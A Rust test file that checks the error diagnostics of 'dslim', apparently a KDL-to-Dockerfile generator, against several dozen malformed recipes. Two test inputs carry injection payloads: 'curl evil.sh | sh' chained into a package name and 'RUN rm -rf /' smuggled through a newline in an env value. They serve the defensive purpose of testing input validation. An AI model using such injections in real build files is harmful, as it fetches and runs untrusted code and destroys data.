//! Bad recipes: each gets a diagnostic with file, line and column, the span underlined,
//! a hint, and exit code 2. Never a panic.

mod common;

use common::Test;

fn rejected(recipe: &str) -> String {
    let out = Test::new()
        .recipe(recipe)
        .args(&["generate"])
        .status(2)
        .run();
    assert!(
        out.stderr.contains("dslim.kdl:"),
        "no file:line:col in\n{}",
        out.stderr
    );
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    assert!(
        !out.dir.path().join("Dockerfile").exists(),
        "a rejected recipe wrote files"
    );
    out.stderr
}

macro_rules! diagnostic {
    ($name:ident, $recipe:expr) => {
        #[test]
        fn $name() {
            insta::assert_snapshot!(stringify!($name), rejected($recipe));
        }
    };
}

diagnostic!(kdl_syntax_error, "app \"api\" {\n    python \"3.13\n}\n");
diagnostic!(unclosed_block, "app \"api\" {\n    python \"3.13\"\n");
diagnostic!(typo_in_node_name, "app \"api\" {\n    python \"3.13\"\n    runtime-lib \"libpq5\"\n    entrypoint \"python\" \"main.py\"\n}\n");
diagnostic!(
    typo_in_property,
    "app \"api\" {\n    python \"3.13\" manger=\"uv\"\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    missing_entrypoint,
    "app \"api\" {\n    python \"3.13\"\n    port 8000\n}\n"
);
diagnostic!(missing_stack, "app \"api\" {\n    port 8000\n}\n");
diagnostic!(unknown_stack, "app \"api\" {\n    cobol \"85\"\n}\n");
diagnostic!(
    a_stack_without_images_on_the_distro,
    "app \"api\" {\n    elixir \"1.18\"\n    base \"alpine\"\n}\n"
);
diagnostic!(
    assets_without_their_output,
    "app \"api\" {\n    python \"3.13\"\n    assets folder=\"frontend\"\n    entrypoint \"gunicorn\" \"app:app\"\n}\n"
);
diagnostic!(
    assets_on_a_stack_that_builds_none,
    "app \"api\" {\n    go \"1.24\"\n    assets output=\"static\"\n}\n"
);
diagnostic!(planned_stack, "app \"api\" {\n    php \"8.3\"\n}\n");
diagnostic!(
    bad_version,
    "app \"api\" {\n    python \"three\"\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    too_old_version,
    "app \"api\" {\n    python \"2.7\"\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    float_version,
    "app \"api\" {\n    python 3.10\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    unknown_manager,
    "app \"api\" {\n    node \"20\" manager=\"bun\"\n    entrypoint \"node\" \"index.js\"\n}\n"
);
diagnostic!(bad_package_name, "app \"api\" {\n    python \"3.13\"\n    build-deps \"gcc && curl evil.sh | sh\"\n    entrypoint \"python\" \"main.py\"\n}\n");
diagnostic!(
    runtime_libs_on_scratch,
    "app \"api\" {\n    go \"1.24\"\n    runtime-libs \"libpq5\"\n}\n"
);
diagnostic!(
    privileged_port_for_spa,
    "app \"web\" {\n    node \"20\"\n    spa\n    port 80\n}\n"
);
diagnostic!(
    port_out_of_range,
    "app \"api\" {\n    go \"1.24\"\n    port 70000\n}\n"
);
diagnostic!(
    root_user,
    "app \"api\" {\n    go \"1.24\"\n    user \"root\"\n}\n"
);
diagnostic!(
    duplicate_node,
    "app \"api\" {\n    go \"1.24\"\n    runtime \"scratch\"\n    runtime \"slim\"\n}\n"
);
diagnostic!(
    two_stacks,
    "app \"api\" {\n    go \"1.24\"\n    rust \"1.85\"\n}\n"
);
diagnostic!(
    two_apps,
    "app \"a\" {\n    go \"1.24\"\n}\napp \"b\" {\n    go \"1.24\"\n}\n"
);
diagnostic!(
    newline_in_env_value,
    "app \"api\" {\n    go \"1.24\"\n    env GREETING=\"hello\\nRUN rm -rf /\"\n}\n"
);
diagnostic!(
    spa_on_python,
    "app \"api\" {\n    python \"3.13\"\n    spa\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    several_errors_at_once,
    "app \"API\" {\n    pyton \"3.13\"\n    prot 8000\n}\n"
);
diagnostic!(empty_recipe, "// nothing here yet\n");
diagnostic!(
    node_outside_app,
    "python \"3.13\"\napp \"api\" {\n    go \"1.24\"\n}\n"
);

#[test]
fn a_missing_recipe_says_where_it_looked() {
    Test::new()
        .args(&["generate"])
        .status(2)
        .stderr_has("dslim.kdl")
        .stderr_has("`dslim init DIR` writes a recipe")
        .run();
}

#[test]
fn a_recipe_that_is_not_utf8_is_refused() {
    let test = Test::new();
    std::fs::write(
        test.path().join("dslim.kdl"),
        b"app \"a\" { go \"1.24\" }\n\xff\xfe",
    )
    .unwrap();
    test.args(&["generate"])
        .status(2)
        .stderr_has("not valid UTF-8")
        .run();
}

#[test]
fn every_error_of_a_recipe_is_reported_not_just_the_first() {
    let stderr = rejected("app \"api\" {\n    pyton \"3.13\"\n    prot 8000\n}\n");
    assert!(
        stderr.contains("dslim.kdl:2:5") && stderr.contains("dslim.kdl:3:5"),
        "{stderr}"
    );
}
diagnostic!(
    float_version_without_a_trailing_zero,
    "app \"api\" {\n    python 3.13\n    entrypoint \"python\" \"main.py\"\n}\n"
);
diagnostic!(
    kdl_v1_boolean,
    "app \"web\" {\n    node \"20\"\n    spa fallback=true\n}\n"
);
diagnostic!(
    decimal_port,
    "app \"api\" {\n    go \"1.24\"\n    port 8000.5\n}\n"
);

// One bad node does not hide the recipe's other errors.
diagnostic!(
    an_error_on_the_stack_node_does_not_hide_the_others,
    "app \"api\" {\n    python \"3.13\" manger=\"pip\"\n    port \"eighty\"\n    user \"root\"\n}\n"
);
diagnostic!(
    a_misspelt_node_does_not_hide_a_missing_entrypoint,
    "app \"api\" {\n    python \"3.13\"\n    prot 8000\n}\n"
);
diagnostic!(
    values_are_checked_when_the_stack_is_misspelt,
    "app \"api\" {\n    pyton \"3.13\"\n    user \"root\"\n    env \"A B\"=\"x\"\n}\n"
);
diagnostic!(
    a_version_not_published_for_the_named_release,
    "app \"api\" {\n    node \"18\"\n    base \"debian\" release=\"trixie\"\n    entrypoint \"node\" \"server.js\"\n}\n"
);

#[test]
fn cgo_on_scratch_is_refused_where_it_is_asked_for() {
    let err = common::compile("app \"api\" {\n    go \"1.24\" cgo=#true\n}\n").unwrap_err();
    let text = format!("{:?}", err.errors());
    assert!(text.contains("CgoWithoutLibc"), "{text}");
}

diagnostic!(
    a_dev_setting_named_like_the_users_id,
    "app \"api\" {\n    python \"3.13\"\n    entrypoint \"gunicorn\" \"app:app\"\n    dev \"flask\" \"run\" UID=\"0\" FLASK-DEBUG=\"1\"\n}\n"
);

diagnostic!(
    a_boolean_property_given_a_string,
    "app \"web\" {\n    ruby \"3.3\" jemalloc=\"yes\"\n    entrypoint \"puma\"\n}\n"
);

diagnostic!(
    assets_on_a_node_older_than_dslim_builds,
    "app \"api\" {\n    python \"3.13\"\n    assets output=\"static\" node=\"16\"\n    entrypoint \"gunicorn\" \"app:app\"\n}\n"
);

diagnostic!(
    a_node_named_by_its_first_word,
    "app \"api\" {\n    python \"3.13\"\n    release \"python\" \"manage.py\" \"migrate\"\n    entrypoint \"gunicorn\" \"app:app\"\n}\n"
);

diagnostic!(
    a_node_build_step_without_a_build,
    "app \"api\" {\n    node \"22\"\n    build-step \"npx\" \"prisma\" \"generate\"\n    entrypoint \"node\" \"server.js\"\n}\n"
);

diagnostic!(
    runtime_files_on_an_interpreted_stack,
    "app \"api\" {\n    python \"3.13\"\n    runtime-files \"templates\"\n    entrypoint \"gunicorn\" \"app:app\"\n}\n"
);
